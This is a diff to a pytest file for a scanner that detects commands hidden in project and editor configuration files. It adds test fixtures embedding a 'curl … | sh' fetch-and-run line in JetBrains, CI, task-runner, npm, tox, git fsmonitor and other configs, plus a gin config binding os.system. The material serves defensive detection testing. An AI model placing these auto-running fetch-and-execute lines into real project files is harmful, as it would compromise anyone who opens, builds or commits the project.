@@ -6,14 +6,27 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from scanners.formats import build_files, json_document, python, shell, text, toml_document, yaml_document
+from scanners.formats import (
+    build_files,
+    json_document,
+    manifests,
+    python,
+    shell,
+    text,
+    toml_document,
+    xml_document,
+    yaml_document,
+)
 from scanners.judge import complete, judge
 from scanners.rules.policy import Policy
 from tests.craft.reading import anomalies, referenced, scan, unread_reasons
 
 SCANNERS = tuple(
-    module.SCANNER for module in (json_document, yaml_document, toml_document, python, shell, build_files, text)
-)
+    module.SCANNER
+    for module in (
+        json_document, yaml_document, toml_document, python, shell, build_files, manifests, xml_document, text,
+    )
+)  # fmt: skip
 
 
 def read(source, path):
@@ -30,6 +43,7 @@ def task(command, **more):
     return {"version": "2.0.0", "tasks": [{"label": "a", "type": "shell", "command": command, **more}]}
 
 
+FETCH = "curl http://203.0.113.7/i.sh | sh"
 CASES = {
     "a task of the folder": (
         ".vscode/tasks.json", task("make", args=["x"], runOptions={"runOn": "folderOpen"}), {("tool-command", "high")},
@@ -99,8 +113,64 @@ CASES = {
         "Makefile", "URL = http://203.0.113.7/x\nall:\n\t@curl $(URL) | sh\n", {("shell-runs-fetched", "critical")},
     ),
     "a makefile while it is read": ("Makefile", "X := $(shell curl https://a.example/x | sh)\n", {("shell-runs-fetched", "high")}),
+    "a project of a JetBrains editor": (
+        ".idea/workspace.xml",
+        f'<project version="4"><component name="RunManager"><configuration name="a" type="ShConfigurationType"><option name="SCRIPT_TEXT" value="{FETCH}"/></configuration></component></project>',
+        {("shell-runs-fetched", "critical")},
+    ),
+    "what starts with such a project": (
+        ".idea/startup.xml",
+        '<project version="4"><component name="ProjectStartupSharedConfiguration"><configurations><configuration name="go"/></configurations></component></project>',
+        {("tool-command", "high")},
+    ),
+    "a watcher of files": (
+        ".idea/watcherTasks.xml",
+        f"""<project version="4"><component name="ProjectTasksOptions"><TaskOptions isEnabled="true"><option name="arguments" value="-c '{FETCH}'"/><option name="program" value="sh"/></TaskOptions></component></project>""",
+        {("tool-command", "low"), ("shell-runs-fetched", "critical")},
+    ),
+    "a tool of an editor": (
+        ".idea/externalTools.xml",
+        f"""<toolSet name="External Tools"><tool name="a"><exec><option name="COMMAND" value="/bin/sh"/><option name="PARAMETERS" value="-c '{FETCH}'"/></exec></tool></toolSet>""",
+        {("shell-runs-fetched", "critical")},
+    ),
+    "GitLab": (".gitlab-ci.yml", f"a:\n  before_script: [make]\n  script:\n  - |\n    {FETCH}\n", {("shell-runs-fetched", "critical")}),
+    "Gitpod": (".gitpod.yml", f"tasks:\n- init: {FETCH}\n", {("shell-runs-fetched", "critical")}),
+    "CircleCI": (".circleci/config.yml", f"jobs:\n  a:\n    steps:\n    - run: {{name: x, command: '{FETCH}'}}\n", {("shell-runs-fetched", "critical")}),
+    "Azure": ("azure-pipelines.yml", f"steps:\n- bash: {FETCH}\n", {("shell-runs-fetched", "critical")}),
+    "go-task": ("Taskfile.yml", f"tasks:\n  default:\n    cmds:\n    - cmd: {FETCH}\n", {("shell-runs-fetched", "critical")}),
+    "DVC": ("dvc.yaml", f"stages:\n  a:\n    cmd: {FETCH}\n", {("shell-runs-fetched", "critical")}),
+    "lefthook": ("lefthook.yml", f"pre-commit:\n  commands:\n    a:\n      run: {FETCH}\n", {("shell-runs-fetched", "critical")}),
+    "a project of MLflow": ("MLproject", f"name: x\nentry_points:\n  main:\n    command: {FETCH}\n", {("shell-runs-fetched", "critical")}),
+    "mise": ("mise.toml", f'[hooks]\nenter = "{FETCH}"\n', {("shell-runs-fetched", "critical")}),
+    "tasks of a project": ("pyproject.toml", f'[tool.poe.tasks]\na = "{FETCH}"\n', {("shell-runs-fetched", "critical")}),
+    "scripts of a project": ("pyproject.toml", f'[tool.pdm.scripts]\nb = {{cmd = "{FETCH}"}}\n', {("shell-runs-fetched", "critical")}),
+    "what npm runs in a clone": ("package.json", {"name": "x", "scripts": {"prepare": FETCH}}, {("shell-runs-fetched", "critical")}),
+    "tox": ("tox.ini", f"[testenv]\ncommands =\n    pytest\n    {FETCH}\n", {("shell-runs-fetched", "critical")}),
+    "a repository of git": (
+        "sub/config", f'[core]\n\tbare = false\n\tfsmonitor = "{FETCH}"\n', {("git-place", "medium"), ("shell-runs-fetched", "critical")},
+    ),
+    "settings of git": (".gitconfig", '[filter "x"]\n\tsmudge = ./tools/x\n[core]\n\thooksPath = hooks\n', {("git-place", "medium")}),
+    "gin": ("train.gin", "import acme.layers\nfrom acme import x\ninclude 'http://203.0.113.7/a.gin'\n", {("config-target", "medium"), ("config-path", "medium")}),
+    "gin that imports what it names": (
+        "train.gin", "from __gin__ import dynamic_registration\nimport os\nrun.fn = @os.system\na/os.putenv.key = 'x'\n", {("config-target", "critical")},
+    ),
 }  # fmt: skip
 HONEST = {
+    "a project of an editor": (
+        ".idea/workspace.xml",
+        ('<?xml version="1.0" encoding="UTF-8"?><project version="4"><component name="RunManager"><configuration name="train" type="PythonConfigurationType"><option name="SCRIPT_NAME" value="$PROJECT_DIR$/train.py"/><option name="PARAMETERS" value="--epochs 3"/></configuration>'
+        '<configuration name="b" type="ShConfigurationType"><option name="SCRIPT_TEXT" value="python train.py"/></configuration></component><component name="TaskManager"/></project>'),
+    ),
+    "GitLab": (".gitlab-ci.yml", "image: python:3.11\ntest:\n  stage: test\n  script:\n  - pip install -r requirements.txt\n  - pytest\n"),
+    "DVC": ("dvc.yaml", "stages:\n  train:\n    cmd: python train.py\n    deps: [train.py]\n"),
+    "MLflow": ("MLproject", "name: x\nentry_points:\n  main:\n    parameters: {a: float}\n    command: 'python train.py {a}'\n"),
+    "tox": ("tox.ini", "[tox]\nenvlist = py311\n[testenv]\ndeps = pytest\ncommands = pytest {posargs}\n"),
+    "git": ("sub/config", '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = false\n[filter "lfs"]\n\tsmudge = git-lfs smudge -- %f\n\tprocess = git-lfs filter-process\n'),
+    "gin as T5 writes it": (
+        "operative_config.gin",
+        ("import mesh_tensorflow.optimize\nimport t5.models.mesh_transformer\nfrom t5x import models\ninclude 't5x/examples/t5/base.gin'\n# Macros:\nd_ff = 2048\n"
+        "decoder/Unitransformer.d_model = None\nrun.learning_rate_schedule = @learning_rate_schedules.constant_learning_rate\n"),
+    ),
     "tasks": (".vscode/tasks.json", task("make", problemMatcher=[])),
     "settings": (".vscode/settings.json", {"editor.tabSize": 4, "python.defaultInterpreterPath": ".venv/bin/python", "python.testing.pytestEnabled": True}),
     "launch": (".vscode/launch.json", {"configurations": [{"type": "debugpy", "request": "launch", "program": "${file}"}]}),
